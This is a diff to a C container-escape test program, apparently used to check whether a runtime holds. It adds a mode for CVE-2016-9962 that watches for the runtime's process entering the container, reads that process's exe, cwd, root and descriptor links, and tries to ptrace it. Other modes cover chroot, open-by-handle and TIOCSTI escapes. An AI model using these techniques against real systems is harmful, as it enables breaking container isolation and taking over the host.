@@ -1,12 +1,15 @@
 /* Old ways out of a container, as a static program for inside one: `escape WAY`. Prints "escaped ..." or "held ...". */
 #define _GNU_SOURCE
+#include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
 #include <sys/ioctl.h>
+#include <sys/ptrace.h>
 #include <sys/stat.h>
+#include <sys/wait.h>
 #include <unistd.h>
 
 static int held(const char *what) { return printf("held %s: %s\n", what, strerror(errno)), 0; }
@@ -54,11 +57,75 @@ static int leaked(void) {
   return 0;
 }
 
+/* Where a link of /proc/PID leads, if it tells. */
+static const char *leads(const char *pid, const char *link) {
+  static char target[256];
+  char path[300];
+  snprintf(path, sizeof path, "/proc/%s/%s", pid, link);
+  ssize_t size = readlink(path, target, sizeof target - 1);
+  if (size <= 0) return NULL;
+  target[size] = 0;
+  return target;
+}
+
+/* Whether the process is still the runtime's: not yet a program of the container's /bin, nor gone. */
+static int is_the_runtimes(const char *pid) {
+  char path[64], name[64] = "";
+  snprintf(path, sizeof path, "/proc/%s/comm", pid);
+  int comm = open(path, O_RDONLY);
+  ssize_t size = comm < 0 ? -1 : read(comm, name, sizeof name - 1);
+  close(comm);
+  if (size <= 0 || strncmp(name, "true", 4) == 0 || strncmp(name, "touch", 5) == 0) return 0;
+  const char *program = leads(pid, "exe");
+  return program == NULL || strncmp(program, "/bin/", 5) != 0;
+}
+
+/* Prints what the runtime's process shows of itself, and whether it can be traced. */
+static int look_at(const char *pid) {
+  int found = 0;
+  for (int fd = -3; fd < 64; fd++) {
+    char link[32], target[256];
+    snprintf(link, sizeof link, fd == -3 ? "exe" : fd == -2 ? "cwd" : fd == -1 ? "root" : "fd/%d", fd);
+    const char *seen = leads(pid, link);
+    if (seen == NULL) continue;
+    strcpy(target, seen);
+    if (!is_the_runtimes(pid)) return found;
+    found += printf("sees %s %s\n", link, target) > 0;
+  }
+  if (ptrace(PTRACE_SEIZE, atoi(pid), NULL, NULL) == 0) {
+    ptrace(PTRACE_INTERRUPT, atoi(pid), NULL, NULL);
+    waitpid(atoi(pid), NULL, __WALL);
+    if (is_the_runtimes(pid)) found += printf("traces it\n") > 0;
+    ptrace(PTRACE_DETACH, atoi(pid), NULL, NULL);
+  }
+  return found;
+}
+
+/* CVE-2016-9962: whoever is inside waits for the process that enters, and takes what it brought along. Pids are given out in
+   turn, so the next one is known. Ends when /tmp/end appears. */
+static int trace_who_enters(void) {
+  int met = 0, found = 0, last = getpid();
+  puts("watching");
+  fflush(stdout);
+  while (access("/tmp/end", F_OK) != 0)
+    for (int next = last + 1; next < last + 16; next++) {
+      char path[64], pid[16];
+      snprintf(path, sizeof path, "/proc/%d/comm", next);
+      if (access(path, F_OK) != 0) continue;
+      snprintf(pid, sizeof pid, "%d", next);
+      met++, last = next;
+      found += look_at(pid);
+      while (waitpid(-1, NULL, __WALL | WNOHANG) > 0) {}
+    }
+  return printf("met %d, found %d\n", met, found), 0;
+}
+
 int main(int argc, char **argv) {
   const char *way = argc > 1 ? argv[1] : "", *path = argc > 2 ? argv[2] : "/";
   if (strcmp(way, "chroot") == 0) return twice_chroot(path);
   if (strcmp(way, "handle") == 0) return by_handle(path);
   if (strcmp(way, "tiocsti") == 0) return type_for_the_operator();
+  if (strcmp(way, "trace") == 0) return trace_who_enters();
   if (strcmp(way, "descriptors") == 0) return leaked();
   return 2;
 }
